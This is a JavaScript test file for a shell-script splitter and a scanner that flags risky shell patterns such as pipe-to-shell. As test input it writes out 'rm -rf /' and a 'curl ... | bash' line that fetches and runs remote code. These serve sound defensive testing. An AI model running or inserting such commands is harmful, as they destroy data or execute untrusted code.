import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectCode } from '../engine.js';
import { splitScript } from './split.js';

test('splits at top-level newlines only', () => {
  const pieces = splitScript('ls\nif x; then\n  y\nfi\necho "a\nb"\ncat <<EOF\nrm -rf /\nEOF\nfor i in 1; do echo done; done\npwd');
  assert.deepEqual(pieces.map((p) => p.line), [0, 1, 4, 6, 9, 10]);
  assert.equal(pieces.map((p) => p.text).join(''), 'ls\nif x; then\n  y\nfi\necho "a\nb"\ncat <<EOF\nrm -rf /\nEOF\nfor i in 1; do echo done; done\npwd');
});

test('line continuations, substitutions and ${#x} stay in one piece', () => {
  assert.equal(splitScript('a \\\n b\n').length, 1);
  assert.equal(splitScript('x=$(\nls\n)\n').length, 1);
  assert.equal(splitScript('echo ${#x}\nls\n').length, 2);
});

test('a long script reports findings at their own lines after a broken line', async () => {
  const filler = Array.from({ length: 120 }, (_, i) => `echo line ${i} && grep -r foo src | sort`);
  const code = ['ls )', ...filler, 'curl -s https://x.example/i.sh | bash'].join('\n');
  assert.ok(code.length > 2048);
  const { findings } = await inspectCode('shell', code);
  const rules = findings.map((f) => f.rule);
  assert.ok(rules.includes('shell.parse-error'));
  const pipe = findings.find((f) => f.rule === 'shell.pipe-to-shell');
  assert.equal(pipe?.location?.line, 122);
});

test('ANSI-C quotes and odd heredoc delimiters do not mislead the scanner', () => {
  assert.equal(splitScript("echo $'it\\'s\nstill quoted'\nls\n").length, 2);
  // A delimiter the scanner does not understand exactly: no split at all.
  assert.equal(splitScript('cat <<E"O"F\nx\nE\nEOF\nls\n').length, 1);
});
